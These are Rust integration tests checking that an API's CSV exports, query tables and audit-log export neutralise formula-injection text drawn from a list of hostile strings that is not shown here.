async fn no_cell_of_an_export_is_a_formula() {
    let (app, owner) = app_with_hostile_records().await;
    let columns = [
        "id",
        "workflow_id",
        "workflow_name",
        "user_id",
        "error_message",
        "trace_id",
    ];
    let body = json!({"format": "csv", "of": {"executions": {"columns": columns}}});
    let asked = app
        .send(Method::POST, "/api/v1/exports", &owner, Some(body))
        .await
        .json();
    let path = format!("/api/v1/exports/{}", asked["id"].as_str().unwrap());
    let written = async {
        while get(&app, &owner, &path).await["state"] != "done" {
            tokio::time::sleep(std::time::Duration::from_millis(2)).await;
        }
    };
    tokio::time::timeout(std::time::Duration::from_secs(20), written)
        .await
        .unwrap();
    let file = app.get(&format!("{path}/download"), &owner).await;
    let query = json!({"source": "executions", "measures": ["count"], "time": {"period": "week"},
                       "dimensions": ["workflow", "user"]});
    let mut query = request(Method::POST, "/api/v1/query", &owner, Some(query));
    query
        .headers_mut()
        .insert(header::ACCEPT, "text/csv".parse().unwrap());
    let table = app.call(query).await;
    let expected: BTreeSet<_> = HOSTILE.iter().map(|text| neutralised(text)).collect();
    for (answer, texts) in [(&file, columns.len()), (&table, 3)] {
        check_no_formula(answer);
        let mut reader = csv::Reader::from_reader(answer.text.as_bytes());
        let rows: Vec<_> = reader.records().map(Result::unwrap).collect();
        for at in 0..texts {
            let cells: BTreeSet<_> = rows.iter().map(|row| row[at].to_owned()).collect();
            assert_eq!(cells, expected, "{at}");
        }
    }
}

#[tokio::test]
async fn no_cell_of_the_audit_log_is_a_formula() {
    let app = App::new().await;
    let owner = app.session(Role::Owner).await;
    let mut names = BTreeSet::new();
    for text in HOSTILE {
        let body = json!({"name": text, "scopes": ["read"]});
        let made = app.send(Method::POST, "/api/v1/keys", &owner, Some(body)).await;
        check(&made, text);
        if made.status.is_client_error() {
            continue;
        }
        let made = made.json();
        names.insert(neutralised(made["name"].as_str().unwrap()));
        let key = Credential::Key(made["key"].as_str().unwrap().to_owned());
        let mut asked = request(
            Method::GET,
            &format!("/api/v1/executions?search={}", encoded(text)),
            &key,
            None,
        );
        if let Ok(id) = HeaderValue::from_str(text) {
            asked.headers_mut().insert("x-request-id", id);
        }
        app.call(asked).await;
    }
    assert!(names.len() > 40, "{names:?}");
    let log = app.get("/api/v1/audit/export", &owner).await;
    check_no_formula(&log);
    let mut reader = csv::Reader::from_reader(log.text.as_bytes());
    let rows: Vec<_> = reader.records().map(Result::unwrap).collect();
    let told: BTreeSet<_> = rows.iter().map(|row| row[6].to_owned()).collect();
    assert_eq!(told, names);
    // These two are in every question that was asked here.
    let is_rare = |text: &&&str| !text.trim().is_empty() && !["?", "%"].contains(*text);
    for text in HOSTILE.iter().filter(is_rare) {
        let found = get(&app, &owner, &format!("/api/v1/audit?search={}", encoded(text))).await;
        let entries = found["entries"].as_array().unwrap().len();
        assert!(entries < names.len(), "{text}: everything");
    }
}
